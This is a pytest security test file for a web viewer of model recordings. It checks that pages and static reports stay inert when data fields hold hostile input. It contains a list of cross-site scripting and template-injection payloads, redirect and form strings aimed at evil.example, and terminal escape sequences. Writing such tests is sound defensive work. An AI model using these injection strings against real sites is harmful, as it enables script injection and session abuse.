"""What strangers write does nothing: as prompt, theme, note, rater or study, on any page."""

from urllib.parse import quote

import pandas as pd
import pytest
from helpers.recordings import noise, recording_of

from clerestory.microscope import Microscope, Themes, build, site
from microscope.serving import Served
from microscope.test_browser import browser, pytestmark  # noqa: F401

PWN = "window.pwned=1"
PAYLOADS = [
    f"<script>{PWN}</script>",
    f'"><img src=x onerror={PWN}>',
    f"' autofocus onfocus='{PWN}' x='",
    f"javascript:{PWN}",
    f"<svg/onload={PWN}>",
    f"</title></style></textarea><script>{PWN}</script>",
    "</style><style>body{display:none!important}</style>",
    f'<a href="javascript:{PWN}">a</a>',
    f'<iframe srcdoc="<script>parent.{PWN}</script>">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<form action="//evil.example"><button>Name it</button></form>',
    "<div hx-get='//evil.example' hx-trigger='load'>",
    "{{ 7*7 }}${7*7}",
]
SITE = "site.0/out"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A microscope whose prompts, themes, notes, raters and studies are payloads."""
    folder = tmp_path_factory.mktemp("hostile")
    prompts = [f"{payload} {number}" for payload in PAYLOADS for number in range(12)]
    table = pd.DataFrame({"prompt": prompts, "seed": 0, "subject": prompts})
    recording = recording_of(table, noise(table, 0, {SITE: (1, 6)}), folder / "rec")
    build([recording], folder / "scope")
    themes = Themes(folder / "scope" / "themes.sqlite")
    for payload in PAYLOADS:
        themes.add(f"{SITE}[3]", payload, rater=payload[:60], note=payload)
    for number, payload in enumerate(PAYLOADS):
        own = folder / "scope" / "studies" / f"{number} {payload.replace('/', '')}"[:80]
        own.mkdir(parents=True)
        (own / "report.html").write_text(f"<h1>Report</h1>{payload}<script>{PWN}</script>")
    return folder / "scope"


@pytest.fixture
def watched(browser):  # noqa: F811
    """A page, and what it asked of whom, or said in a dialog."""
    context = browser.new_context()
    opened, heard = context.new_page(), []
    opened.on("request", lambda request: heard.append(request.url))
    opened.on("dialog", lambda dialog: (heard.append(f"dialog {dialog.message}"), dialog.dismiss()))
    yield opened, heard
    context.close()


def harmless(page, heard, own):
    assert page.evaluate("window.pwned") is None, page.url
    assert page.evaluate("getComputedStyle(document.body).display") == "block", page.url
    handlers = "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
    names = page.evaluate(handlers)
    assert not [name for name in names if name.startswith("on")], page.url
    strange = [one for one in heard if not one.startswith((own, "data:"))]
    assert not strange, (page.url, strange)


def test_no_page_runs_what_strangers_wrote(hostile, watched):
    page, heard = watched
    model = Microscope(hostile).model
    with Served(hostile, lambda: None) as base:
        paths = [f"/{model}", f"/{model}/{SITE}?sort=themes", "/studies", "/compare"]
        paths += [f"/{model}/{SITE}/{number}" for number in range(6)]
        paths += [f"/compare?a={SITE}[3]&b={SITE}[1]", f"/{model}/{SITE}/3/redraw?prompt=a"]
        for payload in PAYLOADS:
            told = quote(payload, safe="")
            paths += [f"/search?q={told}", f"/compare?a={told}&b={told}", f"/{model}/{told}"]
            paths += [f"/{model}/{SITE}?sort={told}", f"/blind/{told}", f"/{model}/{SITE}/{told}"]
        for path in paths:
            page.goto(base + path)
            harmless(page, heard, base)
        page.goto(f"{base}/{model}/{SITE}/3")
        for payload in PAYLOADS:
            assert page.get_by_text(payload, exact=True).count() >= 1, payload


def test_reports_that_lie_in_the_folder_run_nothing(hostile, watched):
    page, heard = watched
    with Served(hostile, lambda: None) as base:
        page.goto(f"{base}/studies")
        links = page.locator("main a").evaluate_all("every => every.map(one => one.href)")
        assert len(links) == len(PAYLOADS)
        for link in links:
            page.goto(link)
            page.locator("h1", has_text="Report").wait_for(state="attached")
            page.wait_for_timeout(100)
            assert page.evaluate("window.pwned") is None
        assert not [one for one in heard if not one.startswith((base, "data:"))]


def test_the_static_pages_run_nothing(hostile, watched, tmp_path):
    page, heard = watched
    start = site(hostile, tmp_path / "site")
    pages = sorted(start.parent.rglob("*.html"))
    assert len([one for one in pages if one.name == "report.html"]) == len(PAYLOADS)
    for one in pages:
        page.goto(one.as_uri())
        if one == start:
            page.wait_for_url("**/noise/index.html")  # where it leads by itself
        if one.name == "report.html":
            page.wait_for_timeout(100)
            assert page.evaluate("window.pwned") is None and page.url == one.as_uri()
        else:
            harmless(page, heard, "file:")


def test_terminal_and_rows_have_no_control_characters(hostile):
    themes = Themes(hostile / "themes.sqlite")
    themes.add(f"{SITE}[0]", "a\x1b]52;c;aGk=\x07b", rater="r\x9b31m")
    for line in themes.export():
        assert line.isprintable()
